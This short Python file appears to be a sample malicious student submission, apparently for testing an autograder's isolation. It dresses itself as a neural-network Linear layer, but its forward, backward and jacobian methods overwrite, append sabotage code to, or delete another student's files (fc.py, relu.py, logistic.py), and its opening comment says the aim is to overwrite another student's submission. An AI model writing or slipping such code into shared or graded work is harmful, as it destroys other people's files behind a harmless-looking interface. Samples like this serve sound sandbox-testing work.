# Overwrite another student's submission.
class Linear:
    def __init__(self, W, b):
        pass

    def forward(self, x):
        with open("__OTHER_STUDENT__/fc.py", "w") as fh:
            fh.write("raise SystemExit('sabotaged')\n")

    def backward(self, dz):
        with open("__OTHER_STUDENT__/relu.py", "a") as fh:
            fh.write("\nraise SystemExit('sabotaged')\n")

    def jacobian(self):
        import os
        os.remove("__OTHER_STUDENT__/logistic.py")
